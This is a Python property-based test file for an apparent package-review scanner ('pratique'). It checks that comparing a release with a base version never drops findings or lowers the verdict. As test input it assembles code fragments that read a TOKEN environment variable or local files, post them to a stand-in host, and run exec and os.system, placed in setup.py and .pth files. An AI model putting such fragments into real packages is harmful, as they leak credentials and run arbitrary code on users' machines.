"""Comparison adds evidence and takes none away (DESIGN principle 5), whatever the base."""

from __future__ import annotations

import msgspec
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.pipeline import Options, review_files

LEVELS = ("clear", "note", "look", "block")
_PARTS = st.lists(
    st.sampled_from((
        b"import os\n",
        b"os.system('true')\n",
        b"def f(x):\n    return open(x).read()\n",
        b"import requests\n",
        b"def g(u, d):\n    return requests.post(u, data=d)\n",
        b"g('https://a.invalid', f('/x'))\n",
        b"exec(f('/tmp/x'))\n",
        b"key = os.environ.get('TOKEN')\n",
        b"class C:\n    def run(self):\n        g(self.u, key)\n",
    )),
    max_size=6,
)  # fmt: skip
_FILES = st.dictionaries(
    st.sampled_from(("acme/__init__.py", "acme/a.py", "setup.py", "acme.pth", "acme-1.0.dist-info/METADATA")),
    _PARTS.map(b"".join),
    max_size=4,
)


def _without_news(review):
    uses = tuple(
        msgspec.structs.replace(use, traits=tuple(one for one in use.traits if one != "new")) for use in review.uses
    )
    flows = tuple(msgspec.structs.replace(flow, traits=()) for flow in review.flows)
    return review.entries, uses, flows, review.problems, review.unknowns


@settings(max_examples=40)
@given(files=_FILES, before=_FILES)
def test_a_base_never_removes_evidence_nor_lowers_the_verdict(files, before):
    alone = review_files(files, options=Options(audience="everything"))

    beside = review_files(files, options=Options(audience="everything"), before=before)

    assert _without_news(beside) == _without_news(alone)
    assert LEVELS.index(beside.verdict.level) >= LEVELS.index(alone.verdict.level)
    assert beside.verdict.score >= alone.verdict.score
    assert {one.rule for one in beside.findings} >= {one.rule for one in alone.findings}


@settings(max_examples=20)
@given(files=_FILES)
def test_nothing_is_new_in_a_release_compared_with_itself(files):
    found = review_files(files, before=files)

    assert found.changes == ()
    assert not [one for one in (*found.uses, *found.flows) if "new" in one.traits]
